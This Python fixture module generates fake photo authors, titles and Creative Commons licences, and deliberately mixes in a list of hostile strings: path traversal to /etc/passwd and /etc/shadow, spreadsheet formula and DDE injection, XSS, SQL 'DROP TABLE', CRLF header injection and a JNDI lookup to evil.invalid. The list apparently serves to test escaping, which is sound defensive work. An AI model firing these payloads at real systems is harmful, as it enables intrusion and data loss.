"""Who made the photos of the replicas, what they are called and under which licence they are: texts that bite."""

from __future__ import annotations

import random
from functools import lru_cache
from typing import NamedTuple

# Names that do harm where they become a path, a table, a heading, a cell of a spreadsheet, or HTML.
HOSTILE = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "CON",
    "a/b:c*d?",
    '=HYPERLINK("http://evil.invalid","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-800-CALL",
    "-2+3",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<!-- ]]> &amp; &lt;b&gt;",
    "[click](javascript:alert(1))",
    "![pixel](http://evil.invalid/p.png)",
    "| a | b |\\|",
    "# Heading",
    "`code` **bold** _it_ ~~no~~",
    "\u202egnp.reven\u202c (RTL)",
    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd",
    "\u5c71\u7530\u592a\u90ce",
    "Zo\u0308e\u0301 Z\u0337\u0321a\u0334l\u0335g\u0336o",
    "lone \ud800 surrogate",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f",
    "A" * 5000,
    "tab\tand\r\nSet-Cookie: line=break",
    "nothing\x00after",
    "\x1b[31mred\x1b[0m",
    "\ufeffmark",
    "two\u2028lines\u2029here",
    "'); DROP TABLE photos;--",
    "{{7*7}} ${jndi:ldap://evil.invalid} %s%n",
    "O\u2019Brien, \u201cAnn\u201d; Jr.",
)
_SOUNDS = (
    "ba",
    "den",
    "fi",
    "gor",
    "hal",
    "ina",
    "jo",
    "ka",
    "lem",
    "mir",
    "no",
    "ola",
    "per",
    "ros",
    "sta",
    "tu",
    "vi",
)
_THINGS = ("river", "market", "old door", "cat", "mountain", "station", "harbour", "field", "bridge", "lamp", "window")
_LOOKS = ("quiet", "red", "early", "broken", "wide", "northern", "little", "bright", "forgotten", "wet")


class Terms(NamedTuple):
    """A licence: what Openverse calls it, and its version; its share among the photos, in percent."""

    code: str
    version: str
    share: int

    @property
    def url(self) -> str:
        """As Creative Commons writes it."""
        if self.code in ("cc0", "pdm"):
            return f"https://creativecommons.org/publicdomain/{'zero' if self.code == 'cc0' else 'mark'}/1.0/"
        return f"https://creativecommons.org/licenses/{self.code}/{self.version}/"

    @property
    def name(self) -> str:
        """As people write it."""
        if self.code in ("cc0", "pdm"):
            return "CC0 1.0" if self.code == "cc0" else "Public Domain Mark 1.0"
        return f"CC {self.code.upper()} {self.version}"


TERMS = (
    Terms("by", "2.0", 25),
    Terms("by", "4.0", 20),
    Terms("cc0", "1.0", 20),
    Terms("pdm", "1.0", 10),
    Terms("by-sa", "4.0", 10),
    Terms("by-sa", "2.0", 5),
    Terms("by-nc", "2.0", 4),
    Terms("by-nd", "3.0", 3),
    Terms("by-nc-sa", "4.0", 3),
)


@lru_cache
def authors(seed: int, count: int = 200) -> list[str]:
    """Names, all different; the hostile ones are spread among the others."""
    draws = random.Random(f"authors {seed}")
    names: dict[str, None] = {}
    while len(names) < count - len(HOSTILE):
        given, family = ("".join(draws.choices(_SOUNDS, k=n)).title() for n in (2, 3))
        names.setdefault(f"{given} {family}")
    spread = [*names, *HOSTILE]
    draws.shuffle(spread)
    return spread


def terms(seed: int, photo: int) -> Terms:
    """The licence of a photo."""
    return random.Random(f"terms {seed} {photo}").choices(TERMS, [each.share for each in TERMS])[0]


def title(seed: int, photo: int) -> str:
    """What a photo is called: words that are fit for a file name."""
    draws = random.Random(f"title {seed} {photo}")
    return f"{draws.choice(_LOOKS)} {draws.choice(_THINGS)}".capitalize()


def shown_title(seed: int, photo: int) -> str:
    """What a photo is called where any text may stand: one in twelve is hostile."""
    draws = random.Random(f"shown {seed} {photo}")
    return draws.choice(HOSTILE) if draws.random() < 1 / 12 else title(seed, photo)
